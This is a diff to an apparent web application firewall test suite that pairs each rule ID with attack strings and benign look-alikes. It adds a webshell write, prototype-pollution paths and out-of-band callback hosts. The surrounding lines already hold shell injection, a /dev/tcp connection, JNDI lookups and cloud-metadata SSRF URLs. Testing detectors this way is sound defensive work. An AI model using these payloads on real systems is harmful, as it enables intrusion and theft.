@@ -30,7 +30,7 @@ const SAMPLES: Record<number, [string[], string[]]> = {
   941150: [['x=document.cookie', '__proto__[admin]=1'], ['a document about cookies', 'the constructor of the house']],
   941160: [["setInterval('ale'+'rt(1)')", 'eval("x")'], ['set an interval', 'evaluate it']],
   941170: [['";fetch(x)//', "'-alert(1)//"], ["it's alert", 'see (page 2)']],
-  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts', ";a=i;b=d;$a$b", "test.jpg; id #", ";/???/c?t /???/p??s??", "& c^m^d /c w^h^o^a^m^i", "| wmic process call create \"calc.exe\"", "$(rev<<<'imaohw')"], ['cat and dog', 'Set the table\nType your name']],
+  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts', ";a=i;b=d;$a$b", "test.jpg; id #", ";/???/c?t /???/p??s??", "& c^m^d /c w^h^o^a^m^i", "| wmic process call create \"calc.exe\"", "$(rev<<<'imaohw')", 'echo x > /var/www/s.php'], ['cat and dog', 'Set the table\nType your name', 'curl -s https://example.org > /dev/null 2>&1', 'ls -la /var/log']],
   932110: [['$(id)', 'a=`whoami`'], ['costs $ 5 (each)', 'run `ls -la` to see the files']],
   932120: [['() { :; }; echo', '() { x; }; id'], ['() {} empty', 'f() { return 1 }']],
   932130: [['cat</dev/tcp/192.0.2.1/80', '/bin/bash -c id'], ['the bin is bashed', 'my /bin folder']],
@@ -48,9 +48,10 @@ const SAMPLES: Record<number, [string[], string[]]> = {
   944150: [['${jndi:ldap://x/a}', '${${lower:j}${::-n}di:ldap://x}'], ['${name}', '${ price }']],
   921110: [['x\r\nRCPT TO: a@example.org', '\r\nQUIT\r\n'], ['rcpt to me please', 'quit\nsmoking']],
   921120: [['a@example.org\r\nBcc: b@example.org', 'x\nSubject: hi', 'x\r\nContent-Type: text/html'], ['line one\nto be clear: yes', 'from now on\ncc me later']],
-  934150: [['{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}'], ['the __proto__ property is deprecated', 'constructor.prototype in prose.']],
+  934150: [['{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}', 'a.__proto__.b', 'constructor[prototype][x]', 'Object.prototype.isAdmin = 1', "x['__proto__']['y']=1"], ['the __proto__ property is deprecated', 'constructor.prototype in prose.', 'Object.prototype.__proto__', 'Object.prototype.hasOwnProperty', 'if (Object.prototype.x == y)']],
   934160: [['http://169.254.169.254/latest/meta-data/', 'http://0xa9fea9fe/', 'http://[::ffff:a9fe:a9fe]/', '169.254.169.254.nip.io', 'http://metadata.google.internal/', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/'], ['1.2.3.4', '2852039166', 'https://example.org/']],
   934170: [['http://0x7f000001/', 'http://2130706433/', 'http://127.1/'], ['http://127.0.0.1/', 'http://localhost:3000/']],
+  934180: [['http://c59d1b2xq.oast.fun/', 'x1.interact.sh', 'nslookup a.burpcollaborator.net', 'http://q.oastify.com', 'a.dnslog.cn', 'http://canarytokens.com/about/x/index.html'], ['interact.sh', 'oast.fun is a service', 'https://oast.fun.example.org/', 'scripts/interact.sh']],
   921100: [['a\r\nSet-Cookie: x=1', '%e5%98%8dset-cookie:x'], ['a set-cookie header', 'line one\r\nline two']],
 };
 
@@ -257,6 +258,8 @@ describe('WAF rules', () => {
       // SQL: an unclosed comment after each keyword (searched for once, not per keyword), select
       // lists, COPY, JSON operators, backtick identifiers.
       ['union /*', 8], ['sleep /*', 8], ['(select /*', 10], ['union select a || ', 18], ['union select a as ', 18], ['copy (select ', 13], ["copy t to program '", 19], ['a @> #>> ', 9], ['x` or `', 7],
+      // Callback hosts, prototype paths and writes in values.
+      ['a.oast.', 7], ['a-a.', 4], ['__proto__.', 10], ['a.', 2], ['[a]', 3], ["['__proto__']", 13], ['object.prototype.a ', 19], ['object.assign(', 14], ['"__proto__" ', 12],
     ];
     const cost = (value: string) => {
       let best = Infinity;
